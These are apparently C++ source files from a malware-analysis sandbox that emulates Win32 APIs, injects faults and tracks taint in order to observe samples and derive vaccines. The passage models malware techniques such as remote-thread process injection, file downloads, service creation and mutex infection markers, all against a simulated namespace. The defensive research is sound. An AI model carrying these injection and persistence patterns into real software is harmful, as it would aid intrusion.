  Counter* api_calls;
  std::array<Counter*, kNumApis> per_api;
  Counter* faults_injected;
  Counter* hooks_dropped;
  Gauge* handles_high_water;
};

KernelMetrics& GetKernelMetrics() {
  static KernelMetrics* metrics = [] {
    auto* m = new KernelMetrics();
    MetricsRegistry& registry = GlobalMetrics();
    m->api_calls = registry.GetCounter("sandbox.api_calls");
    for (size_t i = 0; i < kNumApis; ++i) {
      m->per_api[i] = registry.GetCounter(
          std::string("sandbox.api.") +
          std::string(ApiName(static_cast<ApiId>(i))));
    }
    m->faults_injected = registry.GetCounter("sandbox.faults_injected");
    m->hooks_dropped = registry.GetCounter("sandbox.hooks_dropped");
    m->handles_high_water = registry.GetGauge("sandbox.handles_high_water");
    return m;
  }();
  return *metrics;
}

// APIs whose semantics append bytes to stored files — the disk-full
// quota gate.
bool IsDiskWrite(ApiId id) {
  switch (id) {
    case ApiId::kWriteFile:
    case ApiId::kCopyFileA:
    case ApiId::kMoveFileA:
    case ApiId::kURLDownloadToFileA:
      return true;
    default:
      return false;
  }
}

HandleKind KindForResource(os::ResourceType type) {
  switch (type) {
    case os::ResourceType::kFile: return HandleKind::kFile;
    case os::ResourceType::kMutex: return HandleKind::kMutex;
    case os::ResourceType::kRegistry: return HandleKind::kRegKey;
    case os::ResourceType::kProcess: return HandleKind::kProcess;
    case os::ResourceType::kWindow: return HandleKind::kWindow;
    case os::ResourceType::kLibrary: return HandleKind::kModule;
    case os::ResourceType::kService: return HandleKind::kService;
    case os::ResourceType::kTypeCount: break;
  }
  return HandleKind::kFile;
}

}  // namespace

Kernel::Kernel(os::HostEnvironment& env, taint::TaintEngine* taint_engine,
               std::string self_image_name)
    : env_(env), taint_(taint_engine), heap_cursor_(vm::kHeapBase) {
  self_pid_ = env_.ns().SpawnProcess(self_image_name, /*system_owned=*/false);
  // The CRT rand stream is part of the host's entropy: two runs against
  // byte-identical machine snapshots reproduce each other (which the
  // impact analysis depends on), while different machines differ.
  rand_state_ = static_cast<uint32_t>(env_.entropy().NextU64() | 1);
}

Kernel::Kernel(os::HostEnvironment& env, taint::TaintEngine* taint_engine,
               const KernelSnapshot& snapshot)
    : env_(env),
      taint_(taint_engine),
      trace_(snapshot.trace),
      handles_(snapshot.handles),
      shadow_stack_(snapshot.shadow_stack),
      last_error_(snapshot.last_error),
      self_pid_(snapshot.self_pid),
      heap_cursor_(snapshot.heap_cursor),
      rand_state_(snapshot.rand_state),
      command_line_addr_(snapshot.command_line_addr),
      loaded_modules_(snapshot.loaded_modules) {}

KernelSnapshot Kernel::Snapshot() const {
  KernelSnapshot snap;
  snap.trace = trace_;
  snap.handles = handles_;
  snap.shadow_stack = shadow_stack_;
  snap.last_error = last_error_;
  snap.self_pid = self_pid_;
  snap.heap_cursor = heap_cursor_;
  snap.rand_state = rand_state_;
  snap.command_line_addr = command_line_addr_;
  snap.loaded_modules = loaded_modules_;
  return snap;
}

std::string Kernel::ResolveIdentifier(const ApiSpec& spec, vm::Cpu& cpu) {
  if (spec.id == ApiId::kOpenProcess) {
    const uint32_t pid = cpu.Arg(1);
    const os::ProcessObject* process = env_.ns().FindProcessByPid(pid);
    return process != nullptr ? process->image_name : StrFormat("pid:%u", pid);
  }
  if (spec.id == ApiId::kOpenSCManagerA) return "SCManager";
  if (spec.id == ApiId::kFindWindowA) {
    std::string class_name = cpu.memory().ReadCString(cpu.Arg(0));
    if (!class_name.empty()) return class_name;
    return cpu.memory().ReadCString(cpu.Arg(1));
  }
  if (spec.identifier_arg >= 0) {
    identifier_addr_ = cpu.Arg(static_cast<uint32_t>(spec.identifier_arg));
    return cpu.memory().ReadCString(identifier_addr_);
  }
  if (spec.handle_arg >= 0) {
    const HandleInfo* info =
        handles_.Get(cpu.Arg(static_cast<uint32_t>(spec.handle_arg)));
    if (info != nullptr) return info->identifier;
  }
  return "";
}

uint32_t Kernel::SynthesizeResult(const ApiSpec& spec, bool success,
                                  uint32_t last_error,
                                  const std::string& identifier) {
  if (spec.returns_handle) {
    if (success) {
      HandleInfo info;
      info.kind = KindForResource(spec.resource_type);
      info.identifier = identifier;
      info.fabricated = true;
      return handles_.Create(std::move(info));
    }
    // File-family handle APIs fail with INVALID_HANDLE_VALUE, others NULL.
    switch (spec.id) {
      case ApiId::kCreateFileA:
      case ApiId::kOpenFileA:
      case ApiId::kFindFirstFileA:
        return os::kInvalidHandleValue;
      default:
        return os::kNullHandle;
    }
  }
  switch (spec.id) {
    case ApiId::kRegQueryValueExA:
    case ApiId::kRegSetValueExA:
    case ApiId::kRegDeleteKeyA:
    case ApiId::kRegEnumKeyA:
      return success ? 0 : last_error;
    case ApiId::kGetFileAttributesA:
      return success ? 0x20 : 0xFFFFFFFF;
    case ApiId::kGetFileSize:
      return success ? 0x1000 : 0xFFFFFFFF;
    case ApiId::kProcess32FindA:
      return success ? 4242 : 0;
    case ApiId::kURLDownloadToFileA:
      return success ? 0 : 0x800C0008;
    case ApiId::kWinExec:
      return success ? 33 : 2;
    case ApiId::kConnect:
      return success ? 0 : 0xFFFFFFFF;
    case ApiId::kWaitForSingleObject:
      return success ? 0 : 0xFFFFFFFF;
    default:
      return success ? os::kTrue : os::kFalse;
  }
}

void Kernel::OnSyscall(vm::Cpu& cpu, int64_t api_id) {
  if (api_id < 0 || api_id >= static_cast<int64_t>(kNumApis)) {
    last_error_ = os::kErrorInvalidHandle;
    cpu.SetResult(0);
    return;
  }
  const auto id = static_cast<ApiId>(api_id);
  const ApiSpec& spec = GetApiSpec(id);

  KernelMetrics& metrics = GetKernelMetrics();
  metrics.api_calls->Increment();
  metrics.per_api[static_cast<size_t>(id)]->Increment();

  trace::ApiCallRecord record;
  record.api_name = spec.name;
  record.caller_pc = cpu.current_syscall_pc();
  record.call_stack = shadow_stack_;
  record.sequence = static_cast<uint32_t>(trace_.calls.size());
  record.is_resource_api = spec.is_resource_api;
  record.resource_type = spec.resource_type;
  record.operation = spec.operation;
  record.stack_args_used = spec.num_args;
  identifier_addr_ = 0;
  record.resource_identifier = ResolveIdentifier(spec, cpu);
  record.identifier_addr = identifier_addr_;
  record.identifier_len =
      identifier_addr_ == 0
          ? 0
          : static_cast<uint32_t>(record.resource_identifier.size() + 1);

  for (uint32_t i = 0; i < spec.num_args; ++i) {
    if (static_cast<int32_t>(i) == spec.identifier_arg) {
      record.params.push_back("\"" + record.resource_identifier + "\"");
    } else {
      record.params.push_back(StrFormat("%#x", cpu.Arg(i)));
    }
  }

  // Machine-snapshot capture point: the record's pre-execution fields are
  // final, but nothing about this call has touched machine state yet.
  if (probe_ && spec.is_resource_api) probe_(record, cpu);

  // Every API costs a little virtual time.
  cpu.ConsumeCycles(spec.is_network ? 20 * kCyclesPerMilli : 50);

  // --- fault injection (chaos campaigns, resource exhaustion) ----------
  // Zero-cost when no injector is installed: one pointer test.
  FaultInjector::Decision fault;
  if (injector_ != nullptr) {
    fault = injector_->OnApiCall(id);
    if (fault.delay_cycles != 0) cpu.ConsumeCycles(fault.delay_cycles);
    if (!fault.fail) {
      // Quotas model the machine running out, checked against live state.
      const ResourceQuotas& quotas = injector_->quotas();
      if (quotas.max_handles != 0 && spec.returns_handle &&
          handles_.size() >= quotas.max_handles) {
        fault.fail = true;
        fault.error = os::kErrorTooManyOpenFiles;
        injector_->CountQuotaDenial();
      } else if (quotas.max_objects != 0 && spec.is_resource_api &&
                 spec.operation == os::Operation::kCreate &&
                 env_.ns().ObjectCount() >= quotas.max_objects) {
        fault.fail = true;
        fault.error = os::kErrorNoSystemResources;
        injector_->CountQuotaDenial();
      } else if (quotas.max_file_bytes != 0 && IsDiskWrite(id) &&
                 env_.ns().TotalFileBytes() >= quotas.max_file_bytes) {
        fault.fail = true;
        fault.error = os::kErrorDiskFull;
        injector_->CountQuotaDenial();
      }
    }
  }

  // --- interposition (mutation hooks / vaccine daemon) -----------------
  ApiObservation observation{id, &spec, record.caller_pc, record.sequence,
                             record.resource_identifier};
  std::optional<ForcedOutcome> forced;
  if (!fault.drop_hooks) {
    for (const ApiHook& hook : hooks_) {
      forced = hook(observation);
      if (forced.has_value()) break;
    }
  } else if (!hooks_.empty()) {
    metrics.hooks_dropped->Increment();
  }

  pending_taint_outputs_.clear();
  pending_eax_sources_.clear();
  pending_eax_label_ = taint::kEmptySet;

  if (fault.fail) {
    // An injected environment failure outranks any interposition: the
    // machine failed before the daemon could matter.
    metrics.faults_injected->Increment();
    last_error_ = fault.error;
    cpu.SetResult(SynthesizeResult(spec, /*success=*/false, last_error_,
                                   record.resource_identifier));
    record.succeeded = false;
    record.fault_injected = true;
  } else if (forced.has_value()) {
    // Note: a forced success may still carry an error code — the
    // CreateMutexA infection marker is "success + ERROR_ALREADY_EXISTS".
    last_error_ = forced->last_error;
    const uint32_t eax =
        forced->eax.has_value()
            ? *forced->eax
            : SynthesizeResult(spec, forced->success, last_error_,
                               record.resource_identifier);
    cpu.SetResult(eax);
    record.succeeded = forced->success;
    record.was_forced = true;
  } else {
    Execute(id, spec, cpu, record);
  }
  record.result = cpu.reg(vm::Reg::kEax);
  record.last_error = last_error_;
  for (const auto& [addr, len] : pending_eax_sources_) {
    record.eax_sources.push_back({addr, len});
  }

  // --- taint introduction (the API labelling of Table I) ----------------
  if (taint_ != nullptr) {
    // Fresh defines (env/random info APIs) clear stale taint first so a
    // resource API's own output taint survives below.
    for (const trace::DataDefine& define : record.defines) {
      taint_->TaintMemory(define.dst, define.len, taint::kEmptySet);
    }
    // Copy flows propagate source-buffer taint into destinations.
    for (const trace::DataFlow& flow : record.flows) {
      taint_->TaintMemory(flow.dst, flow.dst_len,
                          taint_->MemoryLabel(flow.src, flow.src_len));
    }
    if (spec.is_resource_api) {
      taint::TaintSource source;
      source.api_sequence = record.sequence;
      source.api_name = spec.name;
      source.resource_type = spec.resource_type;
      source.operation = spec.operation;
      source.identifier = record.resource_identifier;
      source.call_succeeded = record.succeeded;
      const taint::LabelSetId label =
          taint_->map().store().AddSource(std::move(source));
      if (spec.taint_return) taint_->TaintReturnValue(label);
      for (const auto& [addr, len] : pending_taint_outputs_) {
        taint_->TaintMemory(addr, len, label);
      }
      last_error_label_ = label;
    }
    // EAX derived from input buffers (lstrlen/lstrcmp/crc...).
    taint::LabelSetId eax_label = pending_eax_label_;
    for (const auto& [addr, len] : pending_eax_sources_) {
      eax_label = taint_->map().store().Union(eax_label,
                                              taint_->MemoryLabel(addr, len));
    }
    if (eax_label != taint::kEmptySet) taint_->TaintReturnValue(eax_label);
  }

  metrics.handles_high_water->UpdateMax(
      static_cast<int64_t>(handles_.size()));

  trace_.calls.push_back(std::move(record));
  if (max_api_records_ != 0 && trace_.calls.size() >= max_api_records_) {
    cpu.RequestStop(vm::StopReason::kTraceLimit);
  }
}

}  // namespace autovac::sandbox
