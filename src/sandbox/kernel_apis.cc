// Real semantics of every sandbox API. Simplified Win32 prototypes (see
// api_ids.h) over the object namespace, with Table I success/failure
// encodings: handles in EAX, NULL/INVALID_HANDLE_VALUE plus GetLastError
// on failure, ERROR_* codes for the registry family.
#include "sandbox/kernel.h"
#include "support/strings.h"

namespace autovac::sandbox {
namespace {

// Last path component ("C:\dir\x.exe" -> "x.exe").
std::string BaseName(const std::string& path) {
  const size_t slash = path.find_last_of("\\/");
  return slash == std::string::npos ? path : path.substr(slash + 1);
}

bool EndsWithSys(const std::string& path) {
  const std::string lower = ToLower(path);
  return lower.size() >= 4 && lower.substr(lower.size() - 4) == ".sys";
}

}  // namespace

void Kernel::Execute(ApiId id, const ApiSpec& spec, vm::Cpu& cpu,
                     trace::ApiCallRecord& record) {
  (void)spec;
  os::ObjectNamespace& ns = env_.ns();
  vm::Memory& mem = cpu.memory();
  const std::string& ident = record.resource_identifier;

  auto arg = [&](uint32_t i) { return cpu.Arg(i); };
  auto str = [&](uint32_t i) { return mem.ReadCString(cpu.Arg(i)); };
  auto ok = [&](uint32_t eax, uint32_t err = os::kErrorSuccess) {
    last_error_ = err;
    cpu.SetResult(eax);
    record.succeeded = true;
  };
  auto fail = [&](uint32_t eax, uint32_t err) {
    last_error_ = err;
    cpu.SetResult(eax);
    record.succeeded = false;
  };
  auto make_handle = [&](HandleKind kind, std::string identifier,
                         uint32_t value = 0) {
    HandleInfo info;
    info.kind = kind;
    info.identifier = std::move(identifier);
    info.value = value;
    return handles_.Create(std::move(info));
  };
  // Writes `text` into the caller's buffer and records its origin class.
  auto write_out = [&](uint32_t addr, const std::string& text,
                       uint32_t capacity, trace::DataOrigin origin) {
    const uint32_t written = mem.WriteCString(addr, text, capacity);
    if (written > 0) record.defines.push_back({addr, written, origin});
    return written;
  };

  switch (id) {
    // ================= file =================
    case ApiId::kCreateFileA: {
      const uint32_t disposition = arg(1);  // 1 CREATE_NEW, 2 ALWAYS, 3 OPEN
      if (ident.empty()) {
        fail(os::kInvalidHandleValue, os::kErrorFileNotFound);
        break;
      }
      os::NsResult result;
      if (disposition == 3) {
        result = ns.OpenFile(ident);
      } else {
        result = ns.CreateFile(ident, /*create_new=*/disposition == 1);
      }
      if (result.ok) {
        ok(make_handle(HandleKind::kFile, ident), result.error);
      } else {
        fail(os::kInvalidHandleValue, result.error);
      }
      break;
    }
    case ApiId::kOpenFileA: {
      const os::NsResult result = ns.OpenFile(ident);
      if (result.ok) {
        ok(make_handle(HandleKind::kFile, ident));
      } else {
        fail(os::kInvalidHandleValue, result.error);
      }
      break;
    }
    case ApiId::kReadFile: {
      HandleInfo* handle = handles_.Get(arg(0));
      const uint32_t buffer = arg(1);
      const uint32_t count = arg(2);
      if (handle == nullptr || handle->kind != HandleKind::kFile) {
        fail(os::kFalse, os::kErrorReadFault);
        break;
      }
      if (handle->fabricated) {  // forced-success handle: empty file
        ok(os::kTrue);
        break;
      }
      std::string content;
      const os::NsResult result = ns.ReadFile(handle->identifier, &content);
      if (!result.ok) {
        fail(os::kFalse, result.error);
        break;
      }
      std::string chunk = content.substr(
          std::min<size_t>(handle->cursor, content.size()),
          std::min<size_t>(count, 4096));
      handle->cursor += static_cast<uint32_t>(chunk.size());
      mem.WriteCString(buffer, chunk, count);
      record.defines.push_back({buffer,
                                static_cast<uint32_t>(chunk.size() + 1),
                                trace::DataOrigin::kEnvironment});
      pending_taint_outputs_.push_back(
          {buffer, static_cast<uint32_t>(chunk.size() + 1)});
      ok(os::kTrue);
      break;
    }
    case ApiId::kWriteFile: {
      HandleInfo* handle = handles_.Get(arg(0));
      const uint32_t buffer = arg(1);
      const uint32_t count = arg(2);
      if (handle == nullptr || handle->kind != HandleKind::kFile) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      if (handle->fabricated) {
        ok(os::kTrue);
        break;
      }
      std::string existing;
      ns.ReadFile(handle->identifier, &existing);
      std::string payload(mem.ReadCString(buffer, std::min<uint32_t>(count, 4096)));
      const os::NsResult result =
          ns.WriteFile(handle->identifier, existing + payload);
      if (result.ok) {
        ok(os::kTrue);
      } else {
        fail(os::kFalse, result.error);
      }
      break;
    }
    case ApiId::kDeleteFileA: {
      const os::NsResult result = ns.DeleteFile(ident);
      result.ok ? ok(os::kTrue) : fail(os::kFalse, result.error);
      break;
    }
    case ApiId::kCloseHandle: {
      handles_.Close(arg(0)) ? ok(os::kTrue)
                             : fail(os::kFalse, os::kErrorInvalidHandle);
      break;
    }
    case ApiId::kGetFileAttributesA: {
      if (ns.FileExists(ident)) {
        ok(0x20);  // FILE_ATTRIBUTE_ARCHIVE
      } else {
        fail(0xFFFFFFFF, os::kErrorFileNotFound);
      }
      break;
    }
    case ApiId::kSetFileAttributesA: {
      if (!ns.FileExists(ident)) {
        fail(os::kFalse, os::kErrorFileNotFound);
        break;
      }
      const os::FileObject* file = ns.FindFile(ident);
      if (file->system_owned ||
          (file->deny_mask & os::DenyBit(os::Operation::kWrite))) {
        fail(os::kFalse, os::kErrorAccessDenied);
      } else {
        ok(os::kTrue);
      }
      break;
    }
    case ApiId::kCopyFileA:
    case ApiId::kMoveFileA: {
      const std::string source = str(0);
      const std::string dest = str(1);
      std::string content;
      os::NsResult read = ns.ReadFile(source, &content);
      if (!read.ok) {
        fail(os::kFalse, read.error);
        break;
      }
      os::NsResult create = ns.CreateFile(dest, /*create_new=*/false);
      if (!create.ok) {
        fail(os::kFalse, create.error);
        break;
      }
      os::NsResult write = ns.WriteFile(dest, content);
      if (!write.ok) {
        fail(os::kFalse, write.error);
        break;
      }
      if (id == ApiId::kMoveFileA) ns.DeleteFile(source);
      ok(os::kTrue);
      break;
    }
    case ApiId::kGetTempFileNameA: {
      const uint32_t buffer = arg(0);
      const std::string name =
          StrFormat("%s\\tmp%04x.tmp", env_.profile().temp_dir.c_str(),
                    static_cast<unsigned>(env_.entropy().NextBelow(0x10000)));
      const uint32_t written =
          write_out(buffer, name, 260, trace::DataOrigin::kRandom);
      ns.CreateFile(name, /*create_new=*/false);
      ok(written);
      break;
    }
    case ApiId::kCreateDirectoryA: {
      const os::NsResult result = ns.CreateFile(ident, /*create_new=*/true);
      result.ok ? ok(os::kTrue) : fail(os::kFalse, result.error);
      break;
    }
    case ApiId::kGetFileSize: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kFile) {
        fail(0xFFFFFFFF, os::kErrorInvalidHandle);
        break;
      }
      if (handle->fabricated) {
        ok(0);
        break;
      }
      std::string content;
      const os::NsResult result = ns.ReadFile(handle->identifier, &content);
      result.ok ? ok(static_cast<uint32_t>(content.size()))
                : fail(0xFFFFFFFF, result.error);
      break;
    }
    case ApiId::kFindFirstFileA: {
      if (ns.FileExists(ident)) {
        ok(make_handle(HandleKind::kFindFile, ident));
      } else {
        fail(os::kInvalidHandleValue, os::kErrorFileNotFound);
      }
      break;
    }

    // ================= synchronisation =================
    case ApiId::kCreateMutexA: {
      const os::NsResult result = ns.CreateMutex(ident, self_pid_);
      // CreateMutex succeeds even when the mutex exists; the infection
      // marker is GetLastError == ERROR_ALREADY_EXISTS.
      ok(make_handle(HandleKind::kMutex, ident), result.error);
      break;
    }
    case ApiId::kOpenMutexA: {
      const os::NsResult result = ns.OpenMutex(ident);
      if (result.ok) {
        ok(make_handle(HandleKind::kMutex, ident));
      } else {
        fail(os::kNullHandle, result.error);  // NULL + 0x02, Table I
      }
      break;
    }
    case ApiId::kReleaseMutex: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kMutex) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      const os::NsResult result = ns.ReleaseMutex(handle->identifier);
      result.ok ? ok(os::kTrue) : fail(os::kFalse, result.error);
      break;
    }
    case ApiId::kWaitForSingleObject: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr) {
        fail(0xFFFFFFFF, os::kErrorInvalidHandle);
        break;
      }
      ok(0);  // WAIT_OBJECT_0
      break;
    }

    // ================= registry =================
    case ApiId::kRegCreateKeyA: {
      const os::NsResult result = ns.CreateKey(ident);
      if (result.ok) {
        ok(make_handle(HandleKind::kRegKey, ident), result.error);
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kRegOpenKeyA: {
      const os::NsResult result = ns.OpenKey(ident);
      if (result.ok) {
        ok(make_handle(HandleKind::kRegKey, ident));
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kRegQueryValueExA: {
      const HandleInfo* handle = handles_.Get(arg(0));
      const std::string value_name = str(1);
      const uint32_t buffer = arg(2);
      const uint32_t capacity = arg(3);
      record.params[1] = "\"" + value_name + "\"";
      if (handle == nullptr || handle->kind != HandleKind::kRegKey) {
        fail(os::kErrorInvalidHandle, os::kErrorInvalidHandle);
        break;
      }
      if (handle->fabricated) {
        write_out(buffer, "", capacity, trace::DataOrigin::kEnvironment);
        ok(0);
        break;
      }
      std::string data;
      const os::NsResult result =
          ns.QueryValue(handle->identifier, value_name, &data);
      if (!result.ok) {
        fail(result.error, result.error);
        break;
      }
      const uint32_t written =
          write_out(buffer, data, capacity, trace::DataOrigin::kEnvironment);
      pending_taint_outputs_.push_back({buffer, written});
      ok(0);
      break;
    }
    case ApiId::kRegSetValueExA: {
      const HandleInfo* handle = handles_.Get(arg(0));
      const std::string value_name = str(1);
      const std::string data = str(2);
      record.params[1] = "\"" + value_name + "\"";
      record.params[2] = "\"" + data + "\"";
      if (handle == nullptr || handle->kind != HandleKind::kRegKey) {
        fail(os::kErrorInvalidHandle, os::kErrorInvalidHandle);
        break;
      }
      if (handle->fabricated) {
        ok(0);
        break;
      }
      const os::NsResult result =
          ns.SetValue(handle->identifier, value_name, data);
      result.ok ? ok(0) : fail(result.error, result.error);
      break;
    }
    case ApiId::kRegDeleteKeyA: {
      const os::NsResult result = ns.DeleteKey(ident);
      result.ok ? ok(0) : fail(result.error, result.error);
      break;
    }
    case ApiId::kRegCloseKey: {
      handles_.Close(arg(0)) ? ok(0)
                             : fail(os::kErrorInvalidHandle,
                                    os::kErrorInvalidHandle);
      break;
    }
    case ApiId::kRegEnumKeyA: {
      const HandleInfo* handle = handles_.Get(arg(0));
      const uint32_t index = arg(1);
      const uint32_t buffer = arg(2);
      const uint32_t capacity = arg(3);
      if (handle == nullptr || handle->kind != HandleKind::kRegKey) {
        fail(os::kErrorInvalidHandle, os::kErrorInvalidHandle);
        break;
      }
      const std::string prefix =
          os::ObjectNamespace::Canonical(handle->identifier) + "\\";
      std::vector<std::string> children;
      for (const std::string& path : ns.KeyPaths()) {
        const std::string canon = os::ObjectNamespace::Canonical(path);
        if (canon.size() > prefix.size() &&
            canon.compare(0, prefix.size(), prefix) == 0 &&
            canon.find('\\', prefix.size()) == std::string::npos) {
          children.push_back(path.substr(prefix.size()));
        }
      }
      if (index >= children.size()) {
        fail(os::kErrorNoMoreItems, os::kErrorNoMoreItems);
        break;
      }
      const uint32_t written = write_out(buffer, children[index], capacity,
                                         trace::DataOrigin::kEnvironment);
      pending_taint_outputs_.push_back({buffer, written});
      ok(0);
      break;
    }

    // ================= process =================
    case ApiId::kCreateProcessA: {
      if (!ns.FileExists(ident)) {
        fail(os::kFalse, os::kErrorFileNotFound);
        break;
      }
      ns.SpawnProcess(BaseName(ident), /*system_owned=*/false);
      ok(os::kTrue);
      break;
    }
    case ApiId::kOpenProcess: {
      const uint32_t pid = arg(1);
      const os::ProcessObject* process = ns.FindProcessByPid(pid);
      if (process == nullptr) {
        fail(os::kNullHandle, 87);  // ERROR_INVALID_PARAMETER
        break;
      }
      ok(make_handle(HandleKind::kProcess, process->image_name, pid));
      break;
    }
    case ApiId::kTerminateProcess: {
      const uint32_t handle_value = arg(0);
      if (handle_value == 0xFFFFFFFF) {  // pseudo-handle: self
        cpu.RequestExit();
        ok(os::kTrue);
        break;
      }
      const HandleInfo* handle = handles_.Get(handle_value);
      if (handle == nullptr || handle->kind != HandleKind::kProcess) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      if (handle->value == self_pid_) {
        cpu.RequestExit();
        ok(os::kTrue);
        break;
      }
      const os::NsResult result = ns.KillProcess(handle->value);
      result.ok ? ok(os::kTrue) : fail(os::kFalse, result.error);
      break;
    }
    case ApiId::kExitProcess:
    case ApiId::kExitThread: {
      cpu.RequestExit();
      ok(0);
      break;
    }
    case ApiId::kTerminateThread: {
      cpu.RequestExit();  // single-thread model: the sample is its thread
      ok(os::kTrue);
      break;
    }
    case ApiId::kWriteProcessMemory:
    case ApiId::kCreateRemoteThread: {
      HandleInfo* handle = handles_.Get(arg(0));
      const std::string payload = str(1);
      if (handle == nullptr || handle->kind != HandleKind::kProcess) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      if (handle->fabricated) {
        ok(id == ApiId::kCreateRemoteThread
               ? make_handle(HandleKind::kThread, payload)
               : os::kTrue);
        break;
      }
      const os::NsResult result = ns.InjectPayload(handle->value, payload);
      if (!result.ok) {
        fail(os::kFalse, result.error);
        break;
      }
      ok(id == ApiId::kCreateRemoteThread
             ? make_handle(HandleKind::kThread, payload)
             : os::kTrue);
      break;
    }
    case ApiId::kReadProcessMemory: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kProcess) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      ok(os::kTrue);
      break;
    }
    case ApiId::kVirtualAllocEx: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kProcess) {
        fail(0, os::kErrorInvalidHandle);
        break;
      }
      ok(0x7FF00000);  // fake remote allocation
      break;
    }
    case ApiId::kCreateToolhelp32Snapshot: {
      ok(make_handle(HandleKind::kSnapshot, "toolhelp"));
      break;
    }
    case ApiId::kProcess32FindA: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kSnapshot) {
        fail(0, os::kErrorInvalidHandle);
        break;
      }
      const os::ProcessObject* process = ns.FindProcessByName(ident);
      if (process == nullptr) {
        fail(0, os::kErrorFileNotFound);
        break;
      }
      ok(process->pid);
      break;
    }
    case ApiId::kGetCurrentProcessId: {
      ok(self_pid_);
      break;
    }
    case ApiId::kGetCurrentProcess: {
      ok(0xFFFFFFFF);
      break;
    }

    // ================= services =================
    case ApiId::kOpenSCManagerA: {
      ok(make_handle(HandleKind::kScManager, "SCManager"));
      break;
    }
    case ApiId::kCreateServiceA: {
      const HandleInfo* scm = handles_.Get(arg(0));
      const std::string binary_path = str(2);
      record.params[2] = "\"" + binary_path + "\"";
      if (scm == nullptr || scm->kind != HandleKind::kScManager) {
        fail(os::kNullHandle, os::kErrorInvalidHandle);
        break;
      }
      const os::NsResult result = ns.CreateService(ident, binary_path);
      if (result.ok) {
        ok(make_handle(HandleKind::kService, ident));
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kOpenServiceA: {
      const HandleInfo* scm = handles_.Get(arg(0));
      if (scm == nullptr || scm->kind != HandleKind::kScManager) {
        fail(os::kNullHandle, os::kErrorInvalidHandle);
        break;
      }
      const os::NsResult result = ns.OpenService(ident);
      if (result.ok) {
        ok(make_handle(HandleKind::kService, ident));
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kStartServiceA: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kService) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      if (handle->fabricated) {
        ok(os::kTrue);
        break;
      }
      const os::NsResult result = ns.StartService(handle->identifier);
      result.ok ? ok(os::kTrue) : fail(os::kFalse, result.error);
      break;
    }
    case ApiId::kDeleteService: {
      const HandleInfo* handle = handles_.Get(arg(0));
      if (handle == nullptr || handle->kind != HandleKind::kService) {
        fail(os::kFalse, os::kErrorInvalidHandle);
        break;
      }
      const os::NsResult result = ns.DeleteService(handle->identifier);
      result.ok ? ok(os::kTrue) : fail(os::kFalse, result.error);
      break;
    }
    case ApiId::kCloseServiceHandle: {
      handles_.Close(arg(0)) ? ok(os::kTrue)
                             : fail(os::kFalse, os::kErrorInvalidHandle);
      break;
    }

    // ================= windows =================
    case ApiId::kFindWindowA: {
      const std::string class_name = str(0);
      const std::string title = str(1);
      const os::NsResult result = ns.FindWindow(class_name, title);
      if (result.ok) {
        ok(make_handle(HandleKind::kWindow,
                       class_name.empty() ? title : class_name));
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kRegisterClassA: {
      if (ns.IsWindowClassReserved(ident)) {
        fail(0, os::kErrorAccessDenied);
      } else {
        ok(0xC000 + (HashSeed(ident) & 0xFFF));
      }
      break;
    }
    case ApiId::kCreateWindowExA: {
      const std::string title = str(1);
      const os::NsResult result = ns.CreateWindow(ident, title, self_pid_);
      if (result.ok) {
        ok(make_handle(HandleKind::kWindow, ident));
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kShowWindow: {
      handles_.Get(arg(0)) != nullptr
          ? ok(os::kTrue)
          : fail(os::kFalse, os::kErrorInvalidHandle);
      break;
    }

    // ================= libraries =================
    case ApiId::kLoadLibraryA: {
      const os::NsResult result = ns.LoadLibrary(ident);
      if (result.ok) {
        loaded_modules_.insert(os::ObjectNamespace::Canonical(ident));
        ok(make_handle(HandleKind::kModule, ident));
      } else {
        fail(os::kNullHandle, result.error);
      }
      break;
    }
    case ApiId::kGetModuleHandleA: {
      if (loaded_modules_.count(os::ObjectNamespace::Canonical(ident)) > 0 ||
          ns.LibraryAvailable(ident)) {
        ok(make_handle(HandleKind::kModule, ident));
      } else {
        fail(os::kNullHandle, os::kErrorModNotFound);
      }
      break;
    }
    case ApiId::kGetProcAddress: {
      const HandleInfo* handle = handles_.Get(arg(0));
      const std::string proc_name = str(1);
      record.params[1] = "\"" + proc_name + "\"";
      if (handle == nullptr || handle->kind != HandleKind::kModule) {
        fail(0, os::kErrorInvalidHandle);
        break;
      }
      ok(0x60000000 + (HashSeed(proc_name) & 0xFFFF));
      break;
    }
    case ApiId::kFreeLibrary: {
      handles_.Close(arg(0)) ? ok(os::kTrue)
                             : fail(os::kFalse, os::kErrorInvalidHandle);
      break;
    }

    // ================= system information =================
    case ApiId::kGetComputerNameA: {
      write_out(arg(0), env_.profile().computer_name, arg(1),
                trace::DataOrigin::kEnvironment);
      ok(os::kTrue);
      break;
    }
    case ApiId::kGetUserNameA: {
      write_out(arg(0), env_.profile().user_name, arg(1),
                trace::DataOrigin::kEnvironment);
      ok(os::kTrue);
      break;
    }
    case ApiId::kGetVolumeInformationA: {
      ok(env_.profile().volume_serial);
      break;
    }
    case ApiId::kGetSystemDirectoryA: {
      ok(write_out(arg(0), env_.profile().system_dir, arg(1),
                   trace::DataOrigin::kEnvironment));
      break;
    }
    case ApiId::kGetWindowsDirectoryA: {
